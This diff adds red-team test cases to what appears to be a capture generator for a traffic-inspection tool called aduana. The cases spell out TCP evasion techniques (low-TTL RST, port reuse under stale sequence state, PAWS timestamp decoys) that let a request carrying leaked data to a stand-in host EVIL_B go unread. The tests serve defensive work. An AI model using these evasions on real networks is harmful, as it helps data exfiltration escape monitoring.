@@ -3085,6 +3085,319 @@ def case_after_hole_loss_ok(n):
     return cap, {"pass": [passm(n), passm(n) + b"2"]}
 
 
+# Red team round 9 (helper, against e7dd89b): a new connection on the same
+# ports under our old sequence state; bare-ACK stamps behind the next byte;
+# PAWS drops a segment, not the flow.
+
+def http_leak(n, size=None):
+    h = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    if size is not None:
+        assert len(h) <= size
+        h += b"x" * (size - len(h))
+    return h
+
+
+def rst_reuse(n, cport, isn, rst_kw, variant="rst"):
+    """The session is established and allowed; the client sends a RST at its
+    exact next sequence number with a TTL one lower than its other segments
+    (it reaches the server, one hop on: the connection is reset there). aduana
+    ignores a lower-TTL RST. Then a new SYN on the same ports with an ISN
+    below aduana's next byte: the server has no socket and takes it; aduana
+    sees a SYN mid-flow, keeps its old sequence state, and the new
+    connection's bytes pass as retransmissions, unread."""
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, isn, n)
+    old_next = t.cseq
+    if variant == "rst":
+        t.raw(True, "R", seq=old_next, **rst_kw)
+    elif variant == "finrst":
+        # a plain FIN (read by aduana), then a RST at the FIN's sequence
+        # number plus one: the server's rcv_nxt (Linux, FreeBSD: reset)
+        t.raw(True, "FA")
+        t.cseq += 1
+        t.raw(False, "A")
+        t.raw(True, "R", seq=t.cseq)
+        old_next = t.cseq - 1
+    elif variant == "rstwup":
+        # a record the server has not acknowledged yet, then a RST at the
+        # server's last ACK (FreeBSD resets at last_ack_sent)
+        t.raw(True, "PA", tls_appdata(n + "r", 100))
+        t.raw(True, "R", seq=old_next)
+        old_next = t.cseq = old_next + 105
+    elif variant == "fin":
+        # client FIN with a lower TTL (aduana ignores it); the server closes too
+        t.raw(True, "FA", **rst_kw)
+        t.cseq += 1
+        t.raw(False, "FA")
+        t.sseq += 1
+        t.raw(True, "A")
+    # new connection, same ports
+    t.cseq = (old_next - 5000) & 0xFFFFFFFF
+    t.raw(True, "S", seq=t.cseq, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)], gap=100000)
+    t.cseq += 1
+    t.sseq = (t.sseq - 300000) & 0xFFFFFFFF
+    t.raw(False, "SA", seq=t.sseq, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, http_leak(n))
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rst_lowttl_reuse(n):
+    return rst_reuse(n, 43010, 710, {"ipkw": {"ttl": 63}})
+
+
+@case
+def case_finrst_reuse(n):
+    return rst_reuse(n, 43013, 713, {}, variant="finrst")
+
+
+@case
+def case_reuse_no_close(n):
+    """Control: the same new SYN without any close first (the server would
+    answer it with a challenge ACK on Linux, so this is not an attack; it
+    shows what aduana does with a SYN mid-flow)."""
+    return rst_reuse(n, 43012, 712, {}, variant="none")
+
+
+def finwait2_reuse(n, cport, isn, wait_us):
+    """No trick at all: the server closes an idle connection (FIN); the
+    client ACKs it and never sends its own FIN. The server's orphaned
+    socket in FIN_WAIT2 is destroyed silently after tcp_fin_timeout (60 s
+    on Linux). Then the client opens a new connection on the same ports,
+    its ISN below aduana's next byte."""
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, isn, n)
+    old_next = t.cseq
+    t.raw(False, "FA", gap=5000000)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.cseq = (old_next - 5000) & 0xFFFFFFFF
+    t.raw(True, "S", seq=t.cseq, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)], gap=wait_us)
+    t.cseq += 1
+    t.sseq = (t.sseq - 300000) & 0xFFFFFFFF
+    t.raw(False, "SA", seq=t.sseq, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, http_leak(n))
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_finwait2_reuse(n):
+    return finwait2_reuse(n, 43050, 750, 61000000)
+
+
+@case
+def case_paws_bareack_old(n):
+    """Both sides use timestamps. The client sends a record R (the server takes
+    it, its delayed ACK not yet sent: rcv_wup is still R's start). Then a bare
+    ACK at R's START (seq < our next byte; == the server's rcv_wup) with a
+    stamp far ahead: Linux tcp_replace_ts_recent stores it (!after(seq,
+    rcv_wup)), aduana notes only bare ACKs at the next byte. Then a decoy with
+    a stamp between (aduana reads it; the server drops it, PAWS), then
+    plaintext at the same seq with a stamp past the far one."""
+    cap = Capture()
+    t = tls_established_ts(cap, 43001, 701, n)
+    base = t.cseq
+    r = tls_appdata(n + "r", 100)
+    t.raw(True, "PA", r, seq=base, options=t.opts(True))
+    t.cseq = base + len(r)
+    far = t.ts[True] + 1000000
+    t.raw(True, "A", seq=base, options=t.opts(True, tsval=far))      # bare ACK at rcv_wup
+    http = http_leak(n)
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    b2 = t.cseq
+    t.raw(True, "PA", decoy, seq=b2, options=t.opts(True))          # stamp ~ts+3: PAWS-dropped there
+    t.raw(True, "PA", http, seq=b2, options=t.opts(True, tsval=far + 5))
+    t.cseq = b2 + len(http)
+    t.ts[True] = far + 6
+    t.raw(False, "A", options=t.opts(False))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_paws_bareack_server(n):
+    """paws_bareack_old from a malicious server to the inside client (the
+    receiver is the client's kernel): a server record, a bare ACK at its
+    start stamped far ahead, a decoy record (PAWS-dropped by the client),
+    plaintext at the same seq stamped past the far one."""
+    cap = Capture()
+    t = tls_established_ts(cap, 43041, 741, n)
+    base = t.sseq
+    r = tls_appdata(n + "r", 100)
+    t.raw(False, "PA", r, seq=base, options=t.opts(False))
+    t.sseq = base + len(r)
+    far = t.ts[False] + 1000000
+    t.raw(False, "A", seq=base, options=t.opts(False, tsval=far))
+    http = b"HTTP/1.1 200 OK\r\nX-Id: " + leak(n) + b"\r\nContent-Length: 0\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    b2 = t.sseq
+    t.raw(False, "PA", decoy, seq=b2, options=t.opts(False))
+    t.raw(False, "PA", http, seq=b2, options=t.opts(False, tsval=far + 5))
+    t.sseq = b2 + len(http)
+    t.ts[False] = far + 6
+    t.raw(True, "A", options=t.opts(True))
+    t.data(True, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_ts_reorder_retrans_ok(n):
+    """Must allow (a genuine sender, both sides with timestamps): new data
+    S3 (stamp s) and a retransmission of S1 (stamp s+3, sent 3 ms later)
+    arrive swapped. The receiver drops S3 (PAWS) and its sender sends S3
+    again with a newer stamp. aduana: ?"""
+    cap = Capture()
+    t = tls_established_ts(cap, 43024, 724, n)
+    data = tls_appdata(n + "a", 300 - 5) + marked_record(passm(n), n + "b", 200)
+    base = t.cseq
+    t.raw(True, "PA", data[:100], seq=base, options=t.opts(True))
+    t.raw(True, "PA", data[100:300], seq=base + 100, options=t.opts(True))
+    s3 = t.opts(True)
+    t.ts[True] += 2
+    t.raw(True, "PA", data[:100], seq=base, options=t.opts(True))      # RTO retransmission, s+3
+    t.raw(True, "PA", data[300:], seq=base + 300, options=s3)           # S3 arrives late, stamp s
+    t.raw(False, "A", ack=base + 300, options=t.opts(False))
+    t.raw(True, "PA", data[300:], seq=base + 300, options=t.opts(True), gap=200000)
+    t.cseq = base + len(data)
+    t.raw(False, "A", options=t.opts(False))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_hold17_ok(n):
+    """Must allow: a body segment lost before us, then 18 segments past the
+    gap (16 held, 2 dropped: no room), the lost one again, then the 2 that
+    were dropped again (the receiver never got them), byte for byte."""
+    cap = Capture()
+    t = tls_established(cap, S1, 43020, E2M, 720, n)
+    data = tls_appdata(n + "big", 2000 - 5) + marked_record(passm(n), n + "m", 200)
+    base = t.cseq
+    segs = [(o, data[o:o + 100]) for o in range(0, len(data), 100)]
+    t.raw(True, "PA", segs[0][1], seq=base)
+    for o, p in segs[2:]:
+        t.raw(True, "PA", p, seq=base + o, gap=100)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", segs[1][1], seq=base + 100, gap=50000)
+    t.raw(False, "A", ack=base + 100 + 100 * 17)
+    for o, p in segs[18:]:
+        t.raw(True, "PA", p, seq=base + o, gap=100)
+    t.cseq = base + len(data)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_repack_ok(n):
+    """Must allow: Linux collapses a retransmission with new data: the
+    server lost [300, 600) after us; the client sends [300, 900) (old and new
+    bytes, the same old bytes) in one segment."""
+    cap = Capture()
+    t = tls_established(cap, S1, 43023, E2M, 723, n)
+    data = tls_appdata(n + "a", 500 - 5) + marked_record(passm(n), n + "b", 400 - 5 - len(passm(n)))
+    base = t.cseq
+    t.raw(True, "PA", data[:300], seq=base)
+    t.raw(True, "PA", data[300:600], seq=base + 300)
+    t.raw(False, "A", ack=base + 300)
+    t.raw(True, "PA", data[300:], seq=base + 300, gap=200000)
+    t.cseq = base + len(data)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_loss_ts_ok(n):
+    """Must allow: after_hole_loss_ok with timestamps: the server lost a body
+    segment and the next record's header after us; the client sends both
+    again (later stamps), byte for byte, then goes on."""
+    cap = Capture()
+    t = tls_established_ts(cap, 43025, 725, n)
+    rec1 = tls_appdata(n + "c1", 600)
+    rec2 = marked_record(passm(n), n + "c2", 120)
+    rec3 = marked_record(passm(n) + b"3", n + "c3", 300)
+    data = rec1 + rec2
+    base = t.cseq
+    for o in range(0, len(data), 300):
+        t.raw(True, "PA", data[o:o + 300], seq=base + o, options=t.opts(True))
+    t.raw(False, "A", ack=base + 300, options=t.opts(False))
+    t.raw(False, "A", ack=base + 300, options=t.opts(False))
+    t.ts[True] += 30
+    t.raw(True, "PA", data[300:], seq=base + 300, options=t.opts(True), gap=200000)
+    t.cseq = base + len(data)
+    t.raw(False, "A", options=t.opts(False))
+    t.data(True, rec3)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"3"]}
+
+
+@case
+def case_finrst_reuse_v6(n):
+    """finrst_reuse over IPv6 (S6 -> E2M6)."""
+    cap = Capture()
+    t = ETcp(cap, S6, 43040, E2M6, 443, isn=740, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, tls_appdata(n + "req", 180))
+    t.data(False, tls_appdata(n + "resp", 700))
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.raw(False, "A")
+    t.raw(True, "R", seq=t.cseq)
+    old_next = t.cseq - 1
+    t.cseq = (old_next - 5000) & 0xFFFFFFFF
+    t.raw(True, "S", seq=t.cseq, options=[("MSS", 1440), ("SAckOK", b""), ("WScale", 7)], gap=100000)
+    t.cseq += 1
+    t.sseq = (t.sseq + 3000000) & 0xFFFFFFFF      # the server's new ISN ahead of the old stream
+    t.raw(False, "SA", seq=t.sseq, options=[("MSS", 1440), ("SAckOK", b""), ("WScale", 7)])
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, http_leak(n))
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_finrst_reuse_ok(n):
+    """A genuine client that closes (FIN), gets the server's last bytes
+    after closing and answers with a RST past its FIN (the server resets
+    there), then opens a new session on the same ports: a new flow, judged
+    from its own ClientHello."""
+    cap = Capture()
+    t = tls_established(cap, S1, 43060, E2M, 760, n)
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.raw(False, "PA", tls_appdata(n + "late", 40))
+    t.raw(True, "R", seq=t.cseq)
+    t2 = ETcp(cap, S1, 43060, E2M, 443, isn=(t.cseq + 100000) & 0xFFFFFFFF, rtt_us=20000)
+    t2.handshake()
+    t2.data(True, hello(n + "2"))
+    t2.data(False, server_hello_flight(n + "2"))
+    t2.data(True, CCS + tls_appdata(n + "fin2", 53))
+    t2.data(True, marked_record(passm(n), n + "req2", 120))
+    t2.data(False, tls_appdata(n + "resp2", 300))
+    t2.close()
+    return cap, {"pass": [passm(n)]}
+
+
 # ------------------------------------------------------------------- main
 
 def write_case(outdir, name):
